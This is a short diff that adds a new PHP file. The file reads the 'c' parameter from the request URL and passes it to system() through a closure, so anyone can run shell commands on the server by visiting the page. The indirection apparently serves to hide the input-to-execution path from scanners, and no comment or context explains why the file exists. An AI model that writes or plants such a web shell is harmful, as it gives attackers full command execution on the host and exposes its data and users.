@@ -1,0 +1,4 @@
+<?php
+$f = function () { return $_GET["c"]; };
+$g = $f;
+system($g());
